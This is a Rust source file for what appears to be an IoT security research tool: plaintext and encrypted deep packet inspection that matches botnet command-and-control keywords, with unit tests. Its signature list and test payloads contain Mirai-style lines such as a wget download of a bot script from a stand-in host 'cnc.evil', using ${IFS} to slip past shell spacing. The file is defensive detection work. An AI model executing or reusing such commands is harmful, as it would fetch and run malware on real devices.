//! Encrypted deep-packet inspection (§IV-B2): keyword rules from IoT
//! malware signatures are matched against traffic "similar to BlindBox",
//! preserving end-to-end encryption. The middlebox receives only
//! PRF-encrypted tokens; a plaintext DPI engine is included as the
//! baseline (and as the model of the certificate-injection middlebox the
//! paper rejects).
//!
//! # Fast path
//!
//! Both engines originally scanned the payload once per rule —
//! O(rules × payload) — which collapses at realistic signature-set sizes
//! (hundreds of C&C keywords). The hot paths are now single-pass:
//!
//! * [`PlaintextDpi`] compiles its keywords into an Aho–Corasick
//!   automaton ([`xlf_analytics::AcAutomaton`]) once at construction and
//!   walks each payload exactly once, O(payload + matches).
//! * [`EncryptedDpi`] indexes per-session rule tokens in a
//!   [`TokenIndex`] keyed by each rule's first window token and walks the
//!   traffic token stream once, O(traffic tokens + candidate checks).
//!
//! The naive per-rule scans are kept behind [`PlaintextDpi::inspect_naive`]
//! and [`EncryptedDpi::with_naive_matching`] for A/B measurement; the
//! bench harness and property tests assert the engines agree exactly.

use crate::bus::EvidenceBus;
use crate::evidence::{Evidence, EvidenceKind, Layer};
use std::sync::Arc;
use xlf_analytics::AcAutomaton;
use xlf_lwcrypto::searchable::{match_rule, Token, TokenIndex, Tokenizer};
use xlf_lwcrypto::CryptoError;
use xlf_simnet::SimTime;

/// One detection rule (keyword + name), following the signature-generation
/// shape of Alhanahnah et al. ("one or more keywords to be matched in the
/// traffic").
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Rule {
    /// Rule identifier.
    pub name: String,
    /// Keyword bytes to match.
    pub keyword: Vec<u8>,
}

/// A rule match. The rule name is a shared interned string so reporting a
/// match never copies the name bytes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DpiMatch {
    /// The matching rule's name.
    pub rule: Arc<str>,
    /// Token/byte offset of the first match.
    pub offset: usize,
}

/// Inspection counters for a DPI engine.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct DpiStats {
    /// Token streams inspected.
    pub streams_inspected: u64,
    /// Streams with at least one rule match.
    pub matches: u64,
}

fn intern_names(rules: &[Rule]) -> Vec<Arc<str>> {
    rules.iter().map(|r| Arc::from(r.name.as_str())).collect()
}

fn matches_from_firsts(names: &[Arc<str>], firsts: &[Option<usize>]) -> Vec<DpiMatch> {
    firsts
        .iter()
        .enumerate()
        .filter_map(|(id, first)| {
            first.map(|offset| DpiMatch {
                rule: names[id].clone(),
                offset,
            })
        })
        .collect()
}

/// Plaintext DPI baseline: byte-level keyword matching via a single-pass
/// Aho–Corasick automaton compiled once from the rule set.
#[derive(Debug)]
pub struct PlaintextDpi {
    rules: Vec<Rule>,
    names: Vec<Arc<str>>,
    automaton: AcAutomaton,
}

impl Default for PlaintextDpi {
    fn default() -> Self {
        PlaintextDpi::new(Vec::new())
    }
}

impl PlaintextDpi {
    /// Creates an engine with the given rules, compiling the automaton.
    pub fn new(rules: Vec<Rule>) -> Self {
        let names = intern_names(&rules);
        let automaton = AcAutomaton::build(rules.iter().map(|r| r.keyword.as_slice()));
        PlaintextDpi {
            rules,
            names,
            automaton,
        }
    }

    /// The compiled rule set.
    pub fn rules(&self) -> &[Rule] {
        &self.rules
    }

    /// Scans a plaintext payload in one automaton pass.
    pub fn inspect(&self, payload: &[u8]) -> Vec<DpiMatch> {
        matches_from_firsts(&self.names, &self.automaton.find_first_per_pattern(payload))
    }

    /// The original per-rule window scan, O(rules × payload). Kept for
    /// A/B benchmarking and as the equivalence oracle in property tests.
    pub fn inspect_naive(&self, payload: &[u8]) -> Vec<DpiMatch> {
        let mut out = Vec::new();
        for (id, rule) in self.rules.iter().enumerate() {
            if rule.keyword.is_empty() {
                continue;
            }
            if let Some(offset) = payload
                .windows(rule.keyword.len())
                .position(|w| w == rule.keyword)
            {
                out.push(DpiMatch {
                    rule: self.names[id].clone(),
                    offset,
                });
            }
        }
        out
    }
}

/// The encrypted middlebox: holds rule *tokens* for each session and
/// matches them against traffic token streams. It never sees plaintext.
pub struct EncryptedDpi {
    rules: Vec<Rule>,
    names: Vec<Arc<str>>,
    /// Per-session compiled rule token sequences (rule order).
    compiled: Vec<Vec<Token>>,
    /// Single-pass index over `compiled` (rebuilt on each session bind).
    index: TokenIndex,
    /// When set, match via the per-rule naive scan instead of the index.
    naive: bool,
    bus: Option<EvidenceBus>,
    /// Inspection counters.
    pub stats: DpiStats,
}

impl std::fmt::Debug for EncryptedDpi {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("EncryptedDpi")
            .field("rules", &self.rules.len())
            .field("naive", &self.naive)
            .field("stats", &self.stats)
            .finish_non_exhaustive()
    }
}

impl EncryptedDpi {
    /// Creates the middlebox with a rule set (not yet bound to a session).
    pub fn new(rules: Vec<Rule>) -> Self {
        let names = intern_names(&rules);
        EncryptedDpi {
            rules,
            names,
            compiled: Vec::new(),
            index: TokenIndex::default(),
            naive: false,
            bus: None,
            stats: DpiStats::default(),
        }
    }

    /// Attaches the evidence bus.
    pub fn with_bus(mut self, bus: EvidenceBus) -> Self {
        self.bus = Some(bus);
        self
    }

    /// Selects the naive per-rule scan instead of the token index
    /// (builder-style; used for A/B benchmarking).
    pub fn with_naive_matching(mut self, naive: bool) -> Self {
        self.naive = naive;
        self
    }

    /// Binds the rule set to a session: the rule authority (who holds the
    /// session secret via the separate XLF Core ↔ service channel the
    /// paper describes) compiles keyword tokens for this session and
    /// indexes them for single-pass matching.
    ///
    /// # Errors
    ///
    /// Propagates [`CryptoError`] from tokenizer construction.
    pub fn bind_session(&mut self, session_secret: &[u8]) -> Result<(), CryptoError> {
        self.bind_tokenizer(&Tokenizer::new(session_secret)?);
        Ok(())
    }

    /// [`EncryptedDpi::bind_session`] with the session's tokenizer
    /// already built (infallible).
    pub fn bind_tokenizer(&mut self, tokenizer: &Tokenizer) {
        self.compiled = self
            .rules
            .iter()
            .map(|r| tokenizer.rule_tokens(&r.keyword))
            .collect();
        self.index = TokenIndex::build(self.compiled.clone());
    }

    /// Pure matching over one traffic token stream: no counters, no
    /// evidence.
    pub fn match_stream(&self, tokens: &[Token]) -> Vec<DpiMatch> {
        let firsts = if self.naive {
            self.compiled
                .iter()
                .map(|rule| match_rule(tokens, rule).first().copied())
                .collect()
        } else {
            self.index.find_first_per_rule(tokens)
        };
        matches_from_firsts(&self.names, &firsts)
    }

    fn record(&mut self, device: &str, matches: &[DpiMatch], now: SimTime) {
        self.stats.streams_inspected += 1;
        if matches.is_empty() {
            return;
        }
        self.stats.matches += 1;
        if let Some(bus) = &self.bus {
            for m in matches {
                bus.report(Evidence::new(
                    now,
                    Layer::Network,
                    device,
                    EvidenceKind::DpiMatch,
                    0.9,
                    &format!("rule {} matched at token {}", m.rule, m.offset),
                ));
            }
        }
    }

    /// Inspects a traffic token stream (produced by the sending endpoint);
    /// reports matches as evidence attributed to `device`.
    pub fn inspect(&mut self, device: &str, tokens: &[Token], now: SimTime) -> Vec<DpiMatch> {
        let out = self.match_stream(tokens);
        self.record(device, &out, now);
        out
    }
}

/// Builds the default rule set from the botnet C&C signatures.
pub fn default_rules() -> Vec<Rule> {
    xlf_attacks_signatures()
        .iter()
        .enumerate()
        .map(|(i, sig)| Rule {
            name: format!("cnc-{i}"),
            keyword: sig.to_vec(),
        })
        .collect()
}

/// The signature byte strings (kept locally so `xlf-core` does not depend
/// on the attacks crate; the bench harness asserts the two lists agree).
pub fn xlf_attacks_signatures() -> Vec<&'static [u8]> {
    vec![
        b"wget${IFS}http://cnc.evil/bot.sh",
        b"/bin/busybox MIRAI",
        b"POST /cdn-cgi/ HTTP",
    ]
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::evidence::EvidenceStore;

    fn rules() -> Vec<Rule> {
        default_rules()
    }

    #[test]
    fn plaintext_dpi_finds_keywords() {
        let dpi = PlaintextDpi::new(rules());
        let hits = dpi.inspect(b"GET /x; wget${IFS}http://cnc.evil/bot.sh; exit");
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].rule.as_ref(), "cnc-0");
        assert_eq!(hits[0].offset, 8);
        assert!(dpi.inspect(b"GET /weather HTTP/1.1").is_empty());
    }

    #[test]
    fn plaintext_automaton_agrees_with_naive() {
        let mut rule_set = rules();
        rule_set.push(Rule {
            name: "empty".into(),
            keyword: Vec::new(),
        });
        rule_set.push(Rule {
            name: "overlap".into(),
            keyword: b"busybox".to_vec(),
        });
        let dpi = PlaintextDpi::new(rule_set);
        for payload in [
            &b"GET /x; wget${IFS}http://cnc.evil/bot.sh; exit"[..],
            b"/bin/busybox MIRAI and POST /cdn-cgi/ HTTP both",
            b"clean",
            b"",
        ] {
            assert_eq!(
                dpi.inspect(payload),
                dpi.inspect_naive(payload),
                "divergence on {payload:?}"
            );
        }
    }

    #[test]
    fn encrypted_dpi_matches_without_plaintext() {
        let mut middlebox = EncryptedDpi::new(rules());
        middlebox.bind_session(b"session secret").unwrap();

        // The endpoint tokenizes its (encrypted) payload.
        let endpoint = Tokenizer::new(b"session secret").unwrap();
        let dirty = endpoint.tokenize(b"sh -c 'wget${IFS}http://cnc.evil/bot.sh' &");
        let clean = endpoint.tokenize(b"POST /telemetry?t=72.3 HTTP/1.1");

        let hits = middlebox.inspect("cam", &dirty, SimTime::ZERO);
        assert_eq!(hits.len(), 1);
        assert!(middlebox.inspect("cam", &clean, SimTime::ZERO).is_empty());
        assert_eq!(
            middlebox.stats,
            DpiStats {
                streams_inspected: 2,
                matches: 1
            }
        );
    }

    #[test]
    fn encrypted_and_plaintext_agree_on_detection() {
        let payloads: Vec<&[u8]> = vec![
            b"benign telemetry payload with nothing in it",
            b"attack: /bin/busybox MIRAI scanner start",
            b"another clean one",
            b"hidden POST /cdn-cgi/ HTTP beacon",
        ];
        let plain = PlaintextDpi::new(rules());
        let mut enc = EncryptedDpi::new(rules());
        enc.bind_session(b"s").unwrap();
        let endpoint = Tokenizer::new(b"s").unwrap();
        for payload in payloads {
            let p_hit = !plain.inspect(payload).is_empty();
            let e_hit = !enc
                .inspect("d", &endpoint.tokenize(payload), SimTime::ZERO)
                .is_empty();
            assert_eq!(p_hit, e_hit, "divergence on {payload:?}");
        }
    }

    #[test]
    fn indexed_and_naive_encrypted_engines_agree() {
        let mut indexed = EncryptedDpi::new(rules());
        let mut naive = EncryptedDpi::new(rules()).with_naive_matching(true);
        indexed.bind_session(b"s").unwrap();
        naive.bind_session(b"s").unwrap();
        let endpoint = Tokenizer::new(b"s").unwrap();
        for payload in [
            &b"wget${IFS}http://cnc.evil/bot.sh"[..],
            b"prefix /bin/busybox MIRAI suffix",
            b"clean stream",
            b"hi",
        ] {
            let tokens = endpoint.tokenize(payload);
            assert_eq!(
                indexed.inspect("d", &tokens, SimTime::ZERO),
                naive.inspect("d", &tokens, SimTime::ZERO),
                "divergence on {payload:?}"
            );
        }
        assert_eq!(indexed.stats, naive.stats);
    }

    #[test]
    fn wrong_session_tokens_never_match() {
        let mut middlebox = EncryptedDpi::new(rules());
        middlebox.bind_session(b"session A").unwrap();
        let other_endpoint = Tokenizer::new(b"session B").unwrap();
        let tokens = other_endpoint.tokenize(b"wget${IFS}http://cnc.evil/bot.sh");
        assert!(middlebox.inspect("cam", &tokens, SimTime::ZERO).is_empty());
    }

    #[test]
    fn matches_emit_evidence() {
        let (bus, drain) = EvidenceBus::new();
        let mut middlebox = EncryptedDpi::new(rules()).with_bus(bus);
        middlebox.bind_session(b"s").unwrap();
        let endpoint = Tokenizer::new(b"s").unwrap();
        middlebox.inspect(
            "cam",
            &endpoint.tokenize(b"/bin/busybox MIRAI"),
            SimTime::ZERO,
        );
        let mut store = EvidenceStore::new();
        drain.drain_into(&mut store);
        assert_eq!(store.all()[0].kind, EvidenceKind::DpiMatch);
        assert_eq!(store.all()[0].device, "cam");
    }
}
